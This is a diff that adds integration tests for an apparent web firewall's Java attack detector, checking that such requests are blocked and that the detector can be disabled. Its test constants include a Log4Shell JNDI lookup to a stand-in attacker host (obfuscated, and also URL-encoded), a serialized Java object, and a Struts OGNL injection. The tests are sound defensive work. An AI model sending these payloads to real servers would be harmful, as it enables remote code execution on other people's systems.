@@ -301,3 +301,36 @@ def test_review_bypasses_are_closed(procs):
     for path in ("/admin/sql-console", "/admin/sql-console/run"):
         r = e.request(path + q, timeout=TIMEOUT)
         assert r.status_code == 200, (path, r.status_code, r.text)
+
+
+LOG4SHELL_UA = "Mozilla/5.0 ${${lower:j}${::-n}di:ldap://attacker.example/a}"
+SERIALIZED_B64 = "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw"
+
+
+def test_java_attacks_are_blocked_before_the_upstream(procs):
+    e, echo = _serve(procs, {"exclusions": [{"fields": ["cookie.viewstate"], "detectors": ["java"]}]})
+    cases = [
+        ("/items", {"user-agent": LOG4SHELL_UA}, "java.jndi-lookup", "header.user-agent"),
+        ("/items?q=%24%7Bjndi%3Armi%3A%2F%2Fattacker.example%2Fa%7D", {}, "java.jndi-lookup", "query.q"),
+        ("/items", {"cookie": f"state={SERIALIZED_B64}"}, "java.serialized-object", "cookie.state"),
+        ("/struts?redirect=%25%7B%28%23_memberAccess%5B%27allowStaticMethodAccess%27%5D%3Dtrue%29%7D",
+         {}, "java.code-execution", "query.redirect"),
+    ]
+    for path, headers, rule, field in cases:
+        r = e.request(path, headers=headers, timeout=TIMEOUT)
+        assert r.status_code == 403, (path, headers, r.text)
+        found = r.json()["findings"]
+        assert {"detector": "java", "rule": rule, "field": field} in found, found
+    assert echo.snapshot() == [], "the upstream saw a blocked request"
+    # Placeholders and prose pass; an excluded field carries a serialized object (JSF view state).
+    for path, headers in [("/greet?t=Hello%20%24%7Bname%7D", {}),
+                          ("/docs?q=java%20runtime%20settings", {}),
+                          ("/jsf", {"cookie": f"viewstate={SERIALIZED_B64}"})]:
+        assert e.request(path, headers=headers, timeout=TIMEOUT).status_code == 200, path
+    assert e.wait_metric("meshward_anomaly_detections", len(cases), detector="java") == len(cases)
+
+
+def test_the_java_detector_can_be_turned_off(procs):
+    e, _ = _serve(procs, {"detectors": {"java": {"enabled": False}}})
+    assert e.request("/items", headers={"user-agent": LOG4SHELL_UA}, timeout=TIMEOUT).status_code == 200
+    assert e.request(SQLI_QUERY, timeout=TIMEOUT).status_code == 403
